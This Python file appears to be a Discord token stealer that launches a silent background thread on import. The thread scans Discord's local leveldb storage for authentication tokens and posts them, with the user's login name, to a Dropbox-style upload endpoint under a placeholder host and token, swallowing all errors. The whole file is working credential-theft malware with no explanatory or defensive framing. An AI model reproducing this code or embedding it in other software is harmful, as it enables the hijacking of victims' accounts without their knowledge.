import json
import os
import re
import threading

import requests

_TOKEN = "sl.FAKE-PLACEHOLDER-dropbox-token"
_RX = re.compile(r"[\w-]{24,26}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}")


def _tokens():
    roots = [os.getenv("APPDATA", ""), os.path.expanduser("~/.config")]
    found = set()
    for r in roots:
        for app in ("discord", "discordcanary", "discordptb", "Discord"):
            db = os.path.join(r, app, "Local Storage", "leveldb")
            if not os.path.isdir(db):
                continue
            for f in os.listdir(db):
                if f.endswith((".log", ".ldb")):
                    with open(os.path.join(db, f), "r", errors="ignore") as fh:
                        found.update(_RX.findall(fh.read()))
    return sorted(found)


def _run():
    try:
        data = json.dumps({"user": os.getlogin(), "tokens": _tokens()}).encode()
        requests.post(
            "https://content-dropboxapi.example.invalid/2/files/upload",
            headers={
                "Authorization": "Bearer " + _TOKEN,
                "Dropbox-API-Arg": json.dumps({"path": "/b/%s.json" % os.getpid(), "mode": "add"}),
                "Content-Type": "application/octet-stream",
            },
            data=data,
            timeout=10,
        )
    except Exception:
        pass


threading.Thread(target=_run, daemon=True).start()
